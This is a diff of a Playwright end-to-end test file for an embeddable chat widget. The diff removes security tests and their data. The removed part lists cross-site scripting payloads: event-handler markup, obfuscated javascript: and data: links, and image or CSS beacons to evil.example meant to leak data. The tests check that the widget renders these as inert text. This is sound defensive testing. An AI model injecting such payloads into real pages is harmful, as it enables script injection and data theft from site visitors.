@@ -2,125 +2,13 @@
 
 from __future__ import annotations
 
-import subprocess
-import sys
-from collections.abc import Iterator
-from dataclasses import dataclass
-from pathlib import Path
-
 import pytest
 from playwright.sync_api import Browser, BrowserContext, Page, expect
 
-from tests.e2e.fake_api import ANSWER, KEY, FakeState, create_fake, serve
+from tests.e2e.fake_api import ANSWER, KEY
+from tests.e2e.widget_page import PAGE, Site, ask, expect_answered, open_chat, settle
 
 pytestmark = pytest.mark.browser
-
-ROOT = Path(__file__).resolve().parents[2]
-LOADER = '<script nonce="n1" src="{url}/widget.js" data-assistant="{key}" {more} async></script>'
-PAGE = (
-    '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Shop</title>'
-    '<meta name="viewport" content="width=device-width,initial-scale=1">{head}</head>'
-    '<body><h1>Shop</h1><button id="before">Buy</button>{body}</body></html>'
-)
-STRICT = (
-    "default-src 'self'; script-src 'nonce-n1'; connect-src {url}; "
-    "require-trusted-types-for 'script'; trusted-types 'none'"
-)
-PAYLOADS = {
-    "a12_markup": (
-        "<img src=x onerror=pwned=1><svg onload=pwned=1></svg><script>pwned=1</script>"
-        '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'
-        "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>"
-    ),
-    "a13_links": (
-        "[a](javascript:pwned=1) [b](JaVa\tScript:pwned=1) [c](&#106;avascript:pwned=1) "
-        "[d](data:text/html,<script>pwned=1</script>) [e](vbscript:x) [f](//evil.example/f) "
-        "[g](\\\\evil.example/g) <javascript:pwned=1> [ok](https://ok.example/)"
-    ),
-    "a14_images": (
-        "![a](https://evil.example/?q=S) ![b][ref] <picture><source srcset=https://evil.example/p>"
-        "</picture> <style>*{background:url(https://evil.example/c)}</style> "
-        "<svg><image href=https://evil.example/s></svg>\n\n[ref]: https://evil.example/r?q=S"
-    ),
-}
-
-
-@dataclass(slots=True)
-class Site:
-    """The scripted server with host pages on it."""
-
-    url: str
-    state: FakeState
-    pages: dict[str, tuple[str, dict[str, str]]]
-
-    def host(self, *, more: str = "", head: str = "", tags: int = 1, csp: str = "") -> str:
-        tag = LOADER.format(url=self.url, key=KEY, more=more)
-        headers = {"Content-Security-Policy": csp.format(url=self.url)} if csp else {}
-        self.pages["host"] = (PAGE.format(head=head, body=tag * tags), headers)
-        return f"{self.url}/host/host"
-
-
-@pytest.fixture(scope="module")
-def built() -> None:
-    """Browser tests run what the sources say, not an older build."""
-    subprocess.run([sys.executable, str(ROOT / "widget" / "hatch_build.py")], check=True)
-
-
-@pytest.fixture
-def site(built: None) -> Iterator[Site]:
-    state = FakeState()
-    app = create_fake(state)
-    pages: dict[str, tuple[str, dict[str, str]]] = {}
-    app.add_url_rule("/host/<name>", "host", lambda name: pages[name])
-    running = serve(app)
-    yield Site(running.url, state, pages)
-    running.stop()
-
-
-@pytest.fixture
-def context(browser: Browser) -> Iterator[BrowserContext]:
-    context = browser.new_context(viewport={"width": 1280, "height": 800})
-    context.set_default_timeout(10_000)
-    yield context
-    context.close()
-
-
-@pytest.fixture
-def page(context: BrowserContext) -> Iterator[Page]:
-    """A page that fails the test if a script error or a policy violation reached its console."""
-    page = context.new_page()
-    problems: list[str] = []
-    page.on("pageerror", lambda error: problems.append(str(error)))
-    page.on("console", lambda note: problems.append(note.text) if is_violation(note.text) else None)
-    yield page
-    assert problems == []
-
-
-def is_violation(text: str) -> bool:
-    return "Content Security Policy" in text or "Trusted" in text
-
-
-def open_chat(page: Page, address: str) -> None:
-    page.goto(address)
-    page.locator(".launcher").click()
-    expect(page.locator(".panel")).to_be_visible()
-    expect(page.locator(".start h2")).to_contain_text("Hello!")
-
-
-def ask(page: Page, question: str) -> None:
-    page.locator("textarea").fill(question)
-    page.locator("textarea").press("Enter")
-
-
-def expect_answered(page: Page, turns: int = 1) -> None:
-    expect(page.locator(".answer[aria-busy=false]")).to_have_count(turns, timeout=15_000)
-
-
-def settle(page: Page) -> None:
-    """Wait for the panel's opening to have ended."""
-    page.wait_for_function(
-        "document.querySelector('parlance-chat').shadowRoot.getAnimations().length === 0"
-    )
 
 
 def test_a_visitor_asks_and_gets_an_answer_with_its_sources(site: Site, page: Page) -> None:
@@ -264,75 +152,6 @@ def test_an_unreachable_server_is_named_and_can_be_tried_again(site: Site, page:
     page.unroute("**/config")
     page.get_by_role("button", name="Try again").click()
     expect(page.locator(".start h2")).to_contain_text("Hello!")
-
-
-@pytest.mark.parametrize("name", PAYLOADS)
-def test_hostile_replies_stay_text(site: Site, page: Page, name: str) -> None:
-    """Cases A12, A13 and A14."""
-    site.state.payload = PAYLOADS[name]
-    requests: list[str] = []
-    open_chat(page, site.host())
-    page.on("request", lambda sent: requests.append(sent.url))
-    ask(page, "payload")
-    expect_answered(page)
-    page.wait_for_timeout(300)
-    assert page.evaluate("window.pwned") is None
-    assert [url for url in requests if not url.startswith(site.url)] == []
-    found = page.evaluate(
-        """() => {
-          const root = document.querySelector('parlance-chat').shadowRoot;
-          const all = [...root.querySelectorAll('.prose *')];
-          const names = all.flatMap(node => [...node.attributes]).map(item => item.name);
-          const links = all.filter(node => node.localName === 'a');
-          return {
-            tags: [...new Set(all.map(node => node.localName))],
-            handlers: names.filter(name => /^on|^style$|^src/.test(name)).length,
-            links: links.map(node => node.getAttribute('href')),
-          };
-        }"""
-    )
-    assert set(found["tags"]) <= {"p", "a", "em", "strong", "code"}
-    assert found["handlers"] == 0
-    assert all(link.startswith("https://") for link in found["links"])
-
-
-STRANGE_CUTS = "".join(PAYLOADS.values()) + " **bold** `code`\n\n- one\n- two"
-
-
-def test_a17_a_reply_cut_anywhere_ends_as_the_same_nodes(site: Site, page: Page) -> None:
-    site.state.payload = STRANGE_CUTS
-    open_chat(page, site.host())
-    ask(page, "payload")
-    expect_answered(page)
-    streamed = page.evaluate(PROSE)
-    page.reload()
-    expect_answered(page)
-    assert page.evaluate(PROSE) == streamed
-
-
-PROSE = "document.querySelector('parlance-chat').shadowRoot.querySelector('.prose').innerHTML"
-
-
-def test_a19_a_strict_policy_with_trusted_types_is_kept(site: Site, page: Page) -> None:
-    open_chat(page, site.host(csp=STRICT))
-    ask(page, "Can I return a bicycle?")
-    expect(page.locator(".mark")).to_have_count(2)
-    styled = page.evaluate(
-        "document.querySelector('parlance-chat').shadowRoot"
-        ".querySelectorAll('[style], style').length"
-    )
-    assert styled == 0
-    box = page.locator(".panel").bounding_box()
-    assert box is not None and box["width"] == 400
-
-
-def test_a20_hostile_page_styles_do_not_reach_the_widget(site: Site, page: Page) -> None:
-    head = "<style nonce=n1>*{all:unset!important}parlance-chat{display:none!important}</style>"
-    page.goto(site.host(head=head))
-    page.locator(".launcher").click()
-    settle(page)
-    box = page.locator(".panel").bounding_box()
-    assert box is not None and (box["width"], box["height"]) == (400, 640)
 
 
 def test_everything_is_reached_by_keyboard(site: Site, page: Page) -> None:
